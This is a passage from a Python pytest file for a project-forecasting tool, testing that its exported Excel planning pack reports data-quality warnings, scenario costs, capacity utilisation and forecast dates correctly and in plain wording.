    assert sum(str(w.message).startswith(f"as_of {as_of:%Y-%m-%d}") for w in caught) == 1  # said once
    # the finish-date forecast on its own says it too (fuzz round 10: P50s before the work already done)
    model = pack.forecasts["model"]
    with pytest.warns(DataQualityWarning, match=re.escape(note)), (
            pytest.warns(DataQualityWarning, match=also) if days > 0 else contextlib.nullcontext()):
        forecast_finish_dates(model, tasks, people, projects, as_of=as_of, n_trials=50, random_state=0)
    settings = pack_settings(pack)
    assert settings["check: forecast date"] == note
    first = pd.read_csv(next(f for f in pack.files if f.name.endswith("key-messages.csv")))["message"].iloc[0]
    assert first == f"Check the forecast date: a{note[1:]}."  # read before any number


def test_a_forecast_date_before_the_data_is_said_once_when_stale_work_closed_moves_its_latest_date(tmp_path):
    # closing a stale task as cancelled makes its planned end (2026-07-09, after the table's latest date) a date the
    # finish-date forecast reads as the table's latest: it said the gap again, of another date ("... (2026-07-09)"),
    # unless a filter on the warnings' text hid it (core.as_of.as_of_gap_said: the pack's forecasts leave it unsaid)
    from pmo_forecast.core.as_of import infer_as_of

    tasks, projects, people, _ = small_org()
    latest = infer_as_of(tasks)
    as_of = latest - pd.Timedelta(days=30)
    stale = tasks.index[tasks[S.STATUS] == S.IN_PROGRESS][0]
    tasks.loc[stale, [S.STARTED, S.FINISHED]] = [as_of - pd.Timedelta(days=400), latest + pd.Timedelta(days=10)]
    note = (f"as_of {as_of:%Y-%m-%d} is before the latest date in the task table ({latest:%Y-%m-%d}): work "
            "finished after it still counts as done, so the forecast is not the one you would have made then "
            "(--rewind, or rewind=True in export_planning_pack, makes the pack as of that date; "
            "pmo_forecast.forecasting.rewind.tasks_as_of rewinds the task table).")
    booked = (f"652 h of finished work are booked after as_of {as_of:%Y-%m-%d} (the task table runs later): that work "
              "counts as done, so those hours are in no period and the periods from as_of on hold the plan's work "
              "only (pmo_forecast.forecasting.rewind.tasks_as_of rewinds the table to that date)")
    with pytest.warns(DataQualityWarning, match=f"^{re.escape(note)}$") as caught, pytest.warns(
            DataQualityWarning, match=f"^{re.escape(booked)}$"):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      as_of=as_of, n_trials=200, random_state=0, progress=False, close_stale=True)
    assert [str(w.message) for w in caught if str(w.message).startswith(f"as_of {as_of:%Y-%m-%d}")] == [note]
    assert "finish" in pack.forecasts and pack_settings(pack)["check: forecast date"] == note[:-1]


def test_without_due_dates_or_budgets_the_chances_are_unknown_not_small(tmp_path):
    # no projects table: no P(late) or P(over budget); the headline and the key messages said
    # "0 projects at risk" and "no open project has a 50% or higher chance to finish late"
    tasks, _, people, _ = small_org()
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, people=people, n_trials=200,
                                  random_state=0, progress=False)
    summary = pd.read_csv(next(f for f in pack.files if f.name == "pack-summary.csv")).set_index("measure")
    assert summary["value"].isna()["Projects at risk (P(late) or P(over budget) >= 50%): no project has a due "
                                   "date or a budget"]
    assert "Projects at risk (P(late) or P(over budget) >= 50%)" not in summary.index
    msgs = pd.read_csv(next(f for f in pack.files if f.name == "pack-key-messages.csv"))["message"].tolist()
    assert msgs[:2] == ["No open project has a due date, so the chance to finish late is not known.",
                        "No open project has a budget, so the chance to go over budget is not known."]
    page = (pack.path.parent / "summary.html").read_text(encoding="utf-8")
    assert "Projects at risk (P(late) or P(over budget) &gt;= 50%): no project has a due date or a budget" in page
    # and none of them is "green": nobody assessed them
    projects = pd.read_csv(next(f for f in pack.files if f.name == "pack-projects.csv"))
    assert set(projects["rag"]) == {"grey"} and '<td class="rag grey">grey</td>' in page


def test_a_budget_of_zero_is_no_budget_on_the_projects_sheet_and_said(tmp_path):
    # a budget of 0 h read P(over budget) 100% on the Projects sheet: red for a data-entry slip
    tasks, projects, people, requests = small_org()
    pid = sorted(tasks.loc[tasks[S.STATUS].isin(S.UNFINISHED_STATUSES), S.PROJECT_ID].unique())[0]
    zero = projects.assign(**{S.BUDGET: projects[S.BUDGET].where(projects[S.PROJECT_ID] != pid, 0.0)})
    with pytest.warns(DataQualityWarning, match="1 project has a budget of 0 h"):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=zero, people=people,
                                      requests=requests, n_trials=200, random_state=0, progress=False)
    table = pd.read_csv(next(f for f in pack.files if f.name == "pack-projects.csv")).set_index("project_id")
    assert pd.isna(table.loc[pid, "prob_overrun"]) and pd.isna(table.loc[pid, "budget_hours"])
    # said once, by the Data quality sheet's finding (the Assumptions sheet had said it again)
    found = pd.read_csv(next(f for f in pack.files if f.name == "pack-data-quality-projects.csv"), dtype=str)
    assert found[["check", "id", "value"]].values.tolist() == [["zero_budget", pid, "0"]]
    assert found["reason"].iat[0].startswith("a budget of 0 hours: every hour booked would overrun it, so the "
                                             "forecasts take it as no budget (no chance of going over budget)")
    settings = pack_settings(pack)
    assert "fallback: budgets of 0 h" not in settings.index


def test_an_export_with_nothing_open_still_gives_the_accuracy_and_trends(tmp_path):
    # every task finished (an export filtered to done work): the delivery plan had an empty queue
    # (pandas "All arrays must be of the same length") and the milestone trend an empty run

    tasks, _, people, _ = small_org()
    done = tasks[tasks[S.STATUS] == S.DONE]
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=done, people=people, n_trials=200,
                                  random_state=0, progress=False)
    summary = pd.read_csv(next(f for f in pack.files if f.name == "pack-summary.csv")).set_index("measure")
    assert summary.loc["Open projects forecast", "value"] == "0"
    # the as-of week holds finished work only: no utilisation "ahead" (it showed that week's done hours)
    assert "Peak weekly utilisation, next 26 weeks, all staff" not in summary.index
    assert len(pd.read_csv(next(f for f in pack.files if f.name == "pack-backtest.csv"))) == 6  # model + 5 baselines
    assert pack.forecasts["finish"].by_project().empty


def test_scenarios_sheet_matches_the_comparison(pack, book):
    sheet = _block(book["Scenarios"], "Each scenario, then its change against the baseline").set_index("measure")
    comp = pack.forecasts["comparison"]
    assert [r.scenario.name for r in comp.results] == ["baseline", "one-more-pm"]  # a baseline is added first
    from pmo_forecast.core.results import shown_change

    deltas, values = comp.deltas(), comp.values()
    expected = deltas["one-more-pm"].to_numpy(float, copy=True)
    # a utilisation's change: percentage points between the percents shown (deltas() keeps the raw difference)
    util = deltas.index[deltas.index.str.contains("utilisation")]
    expected[deltas.index.isin(util)] = 100 * shown_change(values.loc[util, "baseline"].to_numpy(float),
                                                           values.loc[util, "one-more-pm"].to_numpy(float), 2)
    # and a wait's: working days between the waits shown, to the tenth
    waits = deltas.index[deltas.index.str.startswith("approval wait")]
    expected[deltas.index.isin(waits)] = shown_change(values.loc[waits, "baseline"].to_numpy(float),
                                                      values.loc[waits, "one-more-pm"].to_numpy(float), 1)
    np.testing.assert_allclose(sheet["change: one-more-pm"].astype(float), expected, rtol=1e-12)
    wait = "approval wait P90 (working days, queue model)"  # the model's, not the log's observed one
    assert sheet.loc[wait, "one-more-pm"] <= sheet.loc[wait, "baseline"]  # one more PM never waits longer
    # what each scenario did is on the sheet (a PM hired takes over projects from the busiest managers)
    did = pack.tables["scenario-actions"]
    assert did["action"].tolist() == [a for r in comp.results for a in r.actions()]


def test_data_quality_headers_are_words_not_column_names(book):
    # the findings' header read "severity | check | row | id | column | file_column | value | reason": a code
    # name (file_column) among lower-case words, on a sheet the analyst takes to the committee
    rows = list(book["Data quality"].iter_rows(values_only=True))
    checks = next(i for i, r in enumerate(rows) if str(r[0]).startswith("tasks: checks run"))
    found = next(i for i, r in enumerate(rows) if str(r[0]).startswith("tasks: every finding"))
    code = "Check's code (as the CSV files and the report name it)"
    assert [v for v in rows[checks + 1] if v is not None] == ["Check", "Severity", "Rows found", "Column",
                                                              "Description", code]
    head = found + 1 + (rows[found + 1][1] is None)  # a note of the first findings kept, when there are many
    assert [v for v in rows[head] if v is not None] == ["Severity", "Check", "Row", "ID", "Column", "Value",
                                                        "Reason", code]


def test_the_backtest_names_the_packs_model_in_words_not_by_its_python_class(pack, book):
    # the Accuracy sheet's backtest read "model: EstimationAccuracyModel", a class name, above the baselines
    methods = _block(book["Accuracy"], "Backtest: fit on the earliest 70% of finished tasks, test on the rest")[
        "method"].tolist()
    assert methods[0] == "accuracy model (this pack's forecasts)"
    assert methods[1:] == list(pack.forecasts["backtest"].summary().index[1:])
    assert pd.read_csv(next(f for f in pack.files if f.name == "pack-backtest.csv"))["method"].tolist() == methods


def test_the_accuracy_sheets_backtest_title_says_the_share_the_backtest_fitted_on(pack):
    # the title said "the earliest 70%" whatever share the backtest held out; the share is said as the
    # backtest's own message says it: the test share halves up (12.5% reads 13%), the training share the rest
    from helpers import pack_context

    from pmo_forecast.estimation.backtest import backtest
    from pmo_forecast.reporting.pack_sheets import _accuracy_sheet

    model, tasks = pack.forecasts["model"], small_org().tasks
    ctx = pack_context(tasks, forecasts={"model": model, "backtest": backtest(model, tasks, test_share=0.125)})
    titles = [b.title for b in _accuracy_sheet(ctx).blocks if b.title.startswith("Backtest")]
    assert titles == ["Backtest: fit on the earliest 87% of finished tasks, test on the rest"]


def test_accuracy_by_person_heads_its_first_column_in_words(book):
    # with people named, the Accuracy sheet's "By person" was headed "assignee", the task column's code name,
    # beside "Team", "Task type" and "Project" on the blocks around it
    rows = list(book["Accuracy"].iter_rows(values_only=True))
    title = next(i for i, r in enumerate(rows) if r[0] == "By person")
    assert rows[title + 1][:2] == ("Assignee", "Finished tasks compared")


def test_scenario_changes_count_a_finish_moved_in_working_days_as_every_other_sheet(book):
    # the Scenarios note said "P80 finish in business days" where What changed, the Trends and the Capacity
    # sheets count the same days as working days
    rows = list(book["Scenarios"].iter_rows(values_only=True))
    title = next(i for i, r in enumerate(rows) if r[0] == "Each scenario, then its change against the baseline")
    assert rows[title + 1][0].startswith("Changes: waits in working days, utilisation in percentage points (+5 pp: "
                                         "from 80% to 85%), P80 finish in working days (positive = later).")
    assert not any("business days" in str(v) for r in rows for v in r)


def test_scenario_cost_notes_say_cost_per_hour_in_words_and_name_the_input_column(book):
    # the notes said "cost_per_hour" (a code name) above a table headed "Cost per hour"
    rows = list(book["Scenarios"].iter_rows(values_only=True))
    notes = {r[0]: rows[i + 1][0] for i, r in enumerate(rows) if r[0] and str(r[0]).startswith("Cost ")}
    assert notes["Cost per scenario: the open projects at completion, and the hires"].startswith(
        "Cost at completion of each scenario's simulated hours: hours spent at the cost per hour of whoever booked "
        "them, hours to come at the open work's estimate-weighted rate (the people table's cost_per_hour column); "
        "the hires: contracted hours")
    assert notes["Cost of the hires in the 52 weeks after the forecast date"] == (
        "Contracted hours x cost per hour (the median of the people table's cost_per_hour column over the hire's "
        "role), from the start through the end (a fixed-term hire's last working day).")
    assert not any("cost_per_hour" in str(v).replace("the people table's cost_per_hour column", "")
                   for r in rows for v in r)


def test_the_costing_rule_is_worded_alike_in_the_assumptions_and_the_scenarios_note(book):
    # the Assumptions said "spent hours at the booker's cost per hour, remaining hours at the open work's
    # estimate-weighted rate", the Scenarios sheet "hours spent at the rate of whoever booked them plus ... hours to
    # come at the open work's rate": one rule in two wordings
    rule = next(r[0] for r in book["Assumptions"].iter_rows(values_only=True)
                if r[0] and str(r[0]).startswith("cost: "))[len("cost: "):]
    assert rule == ("hours spent at the cost per hour of whoever booked them, hours to come at the open work's "
                    "estimate-weighted rate")
    rows = list(book["Scenarios"].iter_rows(values_only=True))
    note = next(rows[i + 1][0] for i, r in enumerate(rows) if r[0] == "Cost per scenario: the open projects at "
                "completion, and the hires")
    assert f": {rule} (the people table's cost_per_hour column);" in note


def test_scenario_actions_note_points_to_its_rows_in_words(book):
    # it read "the project's work cannot finish under the scenario (see here)": no link, and no here
    rows = list(book["Scenarios"].iter_rows(values_only=True))
    title = next(i for i, r in enumerate(rows) if r[0] == "What each scenario did to the plan")
    assert rows[title + 1][0] == ("Blank finish dates: the project's work cannot finish under the scenario (a row "
                                  "below says so), or it is on hold.")


def test_scenarios_sheet_says_approvals_block_the_projects_work(pack, book):
    """The Scenarios sheet did not say that every logged approval is taken as blocking its project's work (a
    ninth PM moved every P80 finish weeks earlier on the sample): the comparison's note is under its table."""
    from pmo_forecast.scenarios.scenario import gates_used

    gpm, source = gates_used(pack.forecasts["gates"])
    # 14.463 gates a month learnt: 14.46 as the Assumptions sheet's cell holds it, and 24 groups of 15 gates, 360,
    # over 360 x 21 / 14.463 = 522.7 working days, 523 as a whole-days cell shows it
    assert gpm == pytest.approx(14.46295, abs=1e-5)
    said = ("Approvals are taken as blocking the project's work while they wait: each project passes 14.46 "
            f"approval gates a month of its schedule ({source}), and a scenario that changes the PM pool adds the "
            "change in approval wait at each of its first 360 gates (523 working days of "
            "schedule) to its finish dates; a longer schedule passes no further gates.")
    queue = pack.forecasts["comparison"].results[0].queue  # the baseline's pool: its mean wait at every gate
    assert gpm * queue.mean_wait / 8 / 21 < 0.005  # this pack's pool is seldom busy (the sample's: 97%, test_scenario)
    assert queue.mean_wait / 8 < 0.05  # a mean wait under 0.05 working days: the Scenarios sheet's cell shows 0.0
    said += (" Taken so, the baseline pool's mean approval wait (0.0 working days) at 14.46 "
             "gates a month would hold a project's work under 1% of its schedule's working days.")
    assert pack.forecasts["comparison"].note == said
    cells = [c.value for r in book["Scenarios"].iter_rows() for c in r if isinstance(c.value, str)]
    assert any(c.startswith("Changes: waits in working days") and c.endswith(f" {said}") for c in cells)


def test_cost_per_scenario_adds_the_hires_to_the_projects_cost(pack, book):
    from pmo_forecast.reporting.rollup import effort_cost

    costs = _block(book["Scenarios"], "Cost per scenario: the open projects at completion, and the hires")
    costs = costs.set_index("scenario")
    assert list(costs.index) == ["baseline", "one-more-pm"]
    rates, spent = pack.forecasts["cost_rates"], pack.forecasts["overrun"].by_project()["spent_hours"]
    for r in pack.forecasts["scenarios"]:
        total = effort_cost(r.effort_samples, r.forecast.project_ids, rates, spent).sum(axis=1)
        assert costs.loc[r.scenario.name, "cost_at_completion_p80"] == pytest.approx(np.quantile(total, 0.8),
                                                                                      rel=1e-12)
    hires = _block(book["Scenarios"], "Cost of the hires in the 52 weeks after the forecast date")
    assert costs.loc["baseline", "hires_cost_first_year"] == 0
    assert costs.loc["one-more-pm", "hires_cost_first_year"] == pytest.approx(hires["cost_first_year"].sum(),
                                                                             rel=1e-12)
    t = pack.tables["scenario-costs"].set_index("scenario")
    assert t.loc["one-more-pm", "change_cost_with_hires_p80"] == pytest.approx(
        t.loc["one-more-pm", "cost_at_completion_p80"] + t.loc["one-more-pm", "hires_cost_first_year"]
        - t.loc["baseline", "cost_at_completion_p80"], rel=1e-12)


def test_a_scenarios_cost_counts_the_projects_it_adds(tmp_path):
    # fuzz round 15 (H1): the scenarios' cost kept only the baseline forecast's projects, so a project added
    # by a scenario (about 2,000 h) changed its cost by +37 (and without that filter, its cost was NaN: no rate)
    from pmo_forecast.reporting.rollup import cost_rates, effort_cost

    tasks, projects, people, requests = small_org()
    add = tmp_path / "add.yaml"
    add.write_text("name: add\nadd_projects:\n  - {project_id: PRJ-99, like: PRJ-07, start: 2026-07-01}\n")
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, scenarios=[SCENARIOS[0], add], n_trials=200, random_state=0,
                                  progress=False)
    r = next(r for r in pack.forecasts["scenarios"] if r.scenario.name == "add")
    assert "PRJ-99" in r.forecast.project_ids
    rates = cost_rates(r.applied.tasks, r.applied.people)  # PRJ-99 at its template's team's rates
    assert rates.loc["PRJ-99", "open_rate"] == pytest.approx(rates.loc["PRJ-07", "open_rate"], rel=0.01)
    cost = effort_cost(r.effort_samples, r.forecast.project_ids, rates,
                       pd.Series(r.forecast.spent, index=r.forecast.project_ids))
    costs = pack.tables["scenario-costs"].set_index("scenario")
    assert costs.loc["add", "cost_at_completion_p80"] == pytest.approx(np.quantile(cost.sum(axis=1), 0.8), rel=1e-12)
    added = cost[:, list(r.forecast.project_ids).index("PRJ-99")]
    assert costs.loc["add", "change_cost_with_hires_p80"] > 0.5 * np.quantile(added, 0.5) > 0


def test_what_the_open_work_shows_is_said_once_in_a_pack_not_again_by_its_scenarios(tmp_path):
    # stop 73: the pack's forecasts said what its open work shows, then each scenario said it again in its own words:
    # one without PRJ-06 "1 open task has no positive estimate (PRJ-08-3)", one trusting the estimates "2 open
    # tasks have more hours booked than the accuracy model gives them" (of no model) and "0 h still to do" on them
    tasks, projects, people, requests = small_org()
    for p in ("PRJ-06", "PRJ-08"):  # an open task without an estimate, a task under way for a year, in each
        tasks.loc[tasks.index[tasks[S.PROJECT_ID].eq(p) & tasks[S.STATUS].eq(S.OPEN)][0], S.ESTIMATE] = np.nan
        i = tasks.index[tasks[S.PROJECT_ID].eq(p) & tasks[S.STATUS].eq(S.IN_PROGRESS)][0]
        tasks.loc[i, [S.STARTED, S.ACTUAL]] = [pd.Timestamp("2025-06-01"), 5 * tasks.loc[i, S.ESTIMATE]]
    (tmp_path / "without.yaml").write_text("name: without-prj-06\nremove_projects: [PRJ-06]\n")
    (tmp_path / "trusted.yaml").write_text("name: as-estimated\nbias_correction: false\n")
    with data_warnings() as said, warnings.catch_warnings():
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 200 trials, to be quick
        X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                               requests=requests, scenarios=[tmp_path / "without.yaml", tmp_path / "trusted.yaml"],
                               n_trials=200, random_state=0, progress=False)
    assert said == [
        "2 open tasks have no positive estimate (PRJ-06-4, PRJ-08-3); their project's median estimate is used. "
        "Estimate them for a better forecast.",
        "2 open tasks have been under way longer than 99% of finished tasks took from start to finish (9 working "
        "days), oldest first: PRJ-06-11 (started 2025-06-01, 15 h booked, estimate 3 h); PRJ-08-2 (started "
        "2025-06-01, 35 h booked, estimate 7 h). Each is forecast as still running, at least at its booked hours: "
        "9 h still to do on them at P50, 1% of the open work. If they are finished or abandoned, close or cancel "
        "them in the tracker (pmo_forecast.aging_work lists them)"]


def test_utilisation_heatmap_and_chart(pack, book):
    import zipfile

    ws = book["Capacity"]
    q = pack.forecasts["queue"].queue  # the PMs' request hours tie to the pool's utilisation, in words
    notes = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    # "of their week": the share is of a full working week, whatever a PM's own hours (a 16 h PM read it so)
    assert any(f"{q.availability:.0%} of a 40-hour working week each gives to requests that is the PM pool's "
               f"{q.utilisation:.0%} utilisation" in v for v in notes)
    rules = [r for rng in ws.conditional_formatting for r in rng.rules]
    assert any(r.type == "colorScale" for r in rules)
    heat = _block(ws, "Person by week: utilisation, 12 weeks back to 26 ahead (green up to 50% of capacity, shading to yellow at 90% and orange at 100%; red above 100%)").set_index("person")
    wide = pack.forecasts["workload"].wide("utilisation")
    week = heat.columns[-1]
    expect = wide[pd.Timestamp(week)].replace(np.inf, np.nan).reindex(heat.index).to_numpy(float)
    np.testing.assert_allclose(heat[week].astype(float).to_numpy(), expect, rtol=1e-12)
    with zipfile.ZipFile(pack.path) as z:
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
    util = [c for c in charts if "Utilisation by week" in c]
    assert len(util) == 1
    assert f"<c:v>{HOSTILE_ROLE}</c:v>" in util[0]  # a series named by its header cell, cached as text
    formulas = re.findall(r"<c:f>(.*?)</c:f>", util[0])
    assert formulas and all(re.fullmatch(r"Capacity!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?", f) for f in formulas)


def test_capacity_hours_ahead_add_up_to_the_forecast_remaining_effort(data, tmp_path):
    """The capacity views schedule each person's expected hours: over everyone they are the
    plan-to-forecast's expected effort at completion less what is spent (medians fell 1-2% short)."""
    tasks, projects, people, _ = data
    res = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                 n_trials=300, random_state=3, progress=False)
    bridge = res.tables["plan-to-forecast"].set_index("step")["hours"]
    remaining = bridge["Equals expected effort at completion"] - bridge["Spent so far"]
    for view in ("workload", "workload_team"):
        w = res.forecasts[view]
        ahead = w.table[w.table["period"] >= w.first_period_ahead]
        assert ahead[S.OPEN_HOURS].sum() == pytest.approx(remaining, rel=1e-6), view


def test_work_in_weeks_without_capacity_is_blank_and_said_not_inf(tmp_path):
    # PMs at availability 0 carry the request handling: the team row's busiest week was the text "inf"
    tasks, projects, people, requests = small_org()
    people = people.assign(**{S.AVAILABILITY: people[S.AVAILABILITY].where(people[S.ROLE] != S.PM_ROLE, 0.0)})
    # said as warnings too: the pool without a PM, and the people and the role with work but no capacity
    without = ("work in periods without capacity ({}): hours_per_week x availability 0, or before a start or after an "
               "end date; utilisation there is infinite (over-allocated, blank in the pack); reassign the work or "
               "correct the people table")
    with pytest.warns(DataQualityWarning, match="^" + re.escape(
            "on 69 working days of the plan (from 2026-06-30) no PM in the people table serves the PM pool (none "
            "employed at availability above 0 and hours a week above 0): the pool is the request log's 8 handlers "
            "(the fit counts them), so 77.6 h of request handling are shared by the PMs employed then") + "$"), \
            pytest.warns(DataQualityWarning, match="^" + re.escape("8 people have " + without.format(
                "Ann Lee: 9.7 h in 14 periods; Bo Wu: 9.7 h in 14 periods; Carla Kim: 9.7 h in 14 periods; Dev Kaya: "
                "9.7 h in 14 periods; Elif Costa: 9.7 h in 14 periods and 3 more")) + "$"), \
            pytest.warns(DataQualityWarning, match="^" + re.escape(
                "1 role has " + without.format("pm: 77.6 h in 14 periods")) + "$"):
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      requests=requests, n_trials=200, random_state=0, progress=False)
    ws = openpyxl.load_workbook(pack.path)["Capacity"]
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.value in ("inf", "-inf")]
    team = _block(ws, "Per team (role), from the forecast date on").set_index("team")
    assert pd.isna(team.loc[S.PM_ROLE, S.PEAK_UTILISATION]) and team.loc[S.PM_ROLE, S.CAPACITY_HOURS] == 0
    notes = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(v.endswith("1 team has work in weeks without capacity (0 hours a week or availability 0, or before a start or after "
                          "an end date): its busiest week is blank; reassign the work or correct the people table.")
               for v in notes)


def test_team_capacity_view_is_the_delivery_plan_keyed_by_team(data, tmp_path):
    """Issue 12: the default (team) heatmap reads the same plan as the named one and the finish dates;
    with new_work=True (--new-work) the work still to arrive is a row of its own."""
    from pmo_forecast.forecasting.workload import NEW_WORK

    tasks, projects, people, requests = data
    busy = tasks.loc[tasks[S.STATUS] == S.OPEN, S.ASSIGNEE].mode()[0]  # at 4 hours a week: over capacity
    people = people.assign(**{S.HOURS_PER_WEEK: people[S.HOURS_PER_WEEK].where(people[S.PERSON] != busy, 4.0)})
    with pytest.warns(DataQualityWarning, match="^" + re.escape(  # the new work's rate, of tasks without estimates
            "25 of the 1,867 tasks created have no positive 'estimate_hours': their project's median estimate is counted (the "
            "median of all estimates in a project with none), not 0 h") + "$"):
        res = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                     requests=requests, n_trials=200, random_state=3, progress=False, new_work=True)
    named, team = (res.forecasts[k].table for k in ("workload", "workload_team"))
    role = people.assign(**{S.PERSON: people[S.PERSON].str.strip()}).set_index(S.PERSON)[S.ROLE]  # as loaded
    as_of = res.forecasts["workload"].as_of
    ahead = named["period"] > as_of  # weeks wholly after the forecast date
    expect = named[ahead].groupby(["period", named.loc[ahead, "key"].map(role)])[S.DEMAND_HOURS].sum()
    got = team[team["period"] > as_of].set_index(["period", "key"])[S.DEMAND_HOURS]
    got = got[got.index.get_level_values("key").isin(set(role))]
    np.testing.assert_allclose(got.reindex(expect.index).to_numpy(), expect.to_numpy(), rtol=1e-9)
    assert team.loc[team["period"] > as_of, S.POOLED_HOURS].sum() > 0  # unassigned work has its hours
    book = openpyxl.load_workbook(res.path)
    per_team = _block(book["Capacity"], "Per team (role), from the forecast date on").set_index("team")
    assert set(per_team.index) == set(people[S.ROLE]) | {NEW_WORK}
    # a team's sum hid the people the plan overloads: counted per team (not named) and on the Summary
    per_person = res.forecasts["workload"].summary(future_only=True)[S.PERIODS_OVER].reindex(role.index)
    over = (per_person.fillna(0) > 0).groupby(role).sum()
    shown = res.tables["workload-team"]["people_over_capacity"]
    assert over.sum() > 0 and shown.reindex(over.index).tolist() == over.tolist()
    assert per_team["People over capacity"].sum() == over.sum()  # the workbook's header, as labelled
    kpis = _block(book["Summary"], "Headline numbers").set_index("measure")["value"]
    assert kpis["People over capacity in a week (whole plan)"] == over.sum()
    # new work: the forecast's weeks beyond the plan's growth, in both views, on nobody's capacity
    new = named.loc[named["key"] == NEW_WORK, S.DEMAND_HOURS].sum()
    forecast = res.forecasts["demand"].forecast.query("series == 'task_hours'")["forecast"].sum()
    growth = res.forecasts["finish"].expected_growth_hours
    assert 0 < new <= forecast - growth + 1e-6
    # one figure for scope growth: the plan-to-forecast's step is the growth this note subtracts
    bridge = res.tables["plan-to-forecast"].set_index("step")["hours"]
    assert bridge["Plus scope growth"] == pytest.approx(growth, rel=1e-9) and growth > 0
    assert per_team.loc[NEW_WORK, S.DEMAND_HOURS] == pytest.approx(new, abs=0.5)
    assert pd.isna(per_team.loc[NEW_WORK, S.CAPACITY_HOURS])
    notes = [c.value for row in book["Capacity"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any("unassigned work and scope growth" in v and f"hours of {NEW_WORK}" in v for v in notes)
    settings = _block(book["Assumptions"], "Model settings")
    assert settings["setting"].str.startswith("capacity: new work still to arrive (--new-work)").any()
    # the sentence adds up to the row (it had summed the forecast's whole weeks, the current one in full)
    said = settings.set_index("setting").loc["capacity: new work still to arrive (--new-work)", "value"]
    arriving = res.forecasts["workload"].new_work["arriving_hours"]
    assert arriving < forecast and said.startswith(f"{fixed(arriving)} task hours forecast to arrive from the day after")
    assert said.endswith(f"less the plan's scope growth of {fixed(growth)} h: {fixed(new)} h in the (new work) row")


def test_new_work_without_created_dates_leaves_the_row_out_and_says_why(tmp_path):
    # --new-work on an export without a created column stopped the whole pack with the demand history's
    # SchemaError "no task has a 'created' date"; the pack now comes out without the (new work) row, and says so
    from pmo_forecast.forecasting.workload import NEW_WORK

    tasks, projects, people, _ = small_org()
    with warnings.catch_warnings(), pytest.warns(SmallSampleWarning, match=re.escape(
            "no completed project to learn scope growth from (5 completed projects have no created dates, so the "
            "scope added after their start cannot be told): no growth added")):
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 100 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks.drop(columns=S.CREATED), projects=projects,
                                      people=people, n_trials=100, random_state=0, progress=False, new_work=True)
    said = "no (new work) row (--new-work): no task has a 'created' date; cannot build a demand history"
    assert "demand" not in pack.forecasts and not (pack.forecasts["workload"].table["key"] == NEW_WORK).any()
    book = openpyxl.load_workbook(pack.path)
    settings = _block(book["Assumptions"], "Model settings").set_index("setting")["value"]
    assert settings["fallback: new work still to arrive"] == said
    notes = [c.value for row in book["Capacity"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any("No (new work) row (--new-work): no task has a 'created' date; cannot build a demand history." in v
               for v in notes)


def test_all_staff_utilisation_is_the_roles_rows_and_new_work_a_column_of_its_own(tmp_path):
    # G7: with --new-work, "all staff" added the (new work) row's hours (nobody's, no capacity) to the staff's
    # while the roles left them out: all staff above every role (sample, week of 2026-07-13: 1.31 against at
    # most 0.95), and the Summary's "all staff 131%" beside the Scenarios' "busiest role 95%"
    from pmo_forecast.forecasting.workload import NEW_WORK

    tasks, projects, people, _ = small_org()
    with warnings.catch_warnings(), pytest.warns(DataQualityWarning, match=re.escape(
            "25 of the 1,867 tasks created have no positive 'estimate_hours': their project's median estimate is "
            "counted")):  # the new work's demand history
        warnings.filterwarnings("ignore", message=FEW_TRIALS, category=SettingsWarning)  # 100 trials, to be quick
        pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                      n_trials=100, random_state=0, progress=False, new_work=True)
    util = pack.tables["utilisation"].set_index("week")
    roles = sorted(set(people[S.ROLE]))
    assert list(util.columns) == ["all staff", "all staff with new work"] + roles
    t = pack.forecasts["workload"].table
    new = t["key"] == NEW_WORK
    assert t.loc[new, S.CAPACITY_HOURS].isna().all() and t.loc[new, S.DEMAND_HOURS].sum() > 0
    per_week = t.assign(staff=t[S.DEMAND_HOURS].where(~new, 0), arriving=t[S.DEMAND_HOURS].where(new, 0)) \
        .groupby("period")[["staff", "arriving", S.CAPACITY_HOURS]].sum().reindex(util.index)
    np.testing.assert_allclose(util["all staff"], per_week["staff"] / per_week[S.CAPACITY_HOURS], rtol=1e-12)
    np.testing.assert_allclose(util["all staff with new work"],
                               (per_week["staff"] + per_week["arriving"]) / per_week[S.CAPACITY_HOURS], rtol=1e-12)
    # the roles' hours and capacity add up to all staff's: a weighted mean, never above the busiest role
    assert (util["all staff"] <= util[roles].max(axis=1) + 1e-12).all()
    assert (util["all staff with new work"] > util["all staff"]).any()
    kpis = pack.tables["summary"].set_index("measure")["value"]
    ahead = util.loc[util.index >= pack.forecasts["workload"].first_period_ahead]
    assert kpis["Peak weekly utilisation, next 26 weeks, all staff"] == ahead["all staff"].max()
    assert kpis["Peak weekly utilisation, next 26 weeks, all staff with new work (nobody assigned yet)"] == \
        ahead["all staff with new work"].max()


def test_scenarios_run_at_the_packs_pace(data, tmp_path):
    # fuzz round 20 (H1): with --pace 1 the Scenarios sheet's baseline stayed at the calibrated pace (PRJ-50
    # 78 days from the Projects sheet on the sample), and every scenario with it
    tasks, projects, people, requests = data
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, scenarios=SCENARIOS[:1], n_trials=300, random_state=3,
                                  progress=False, pace=1.0)
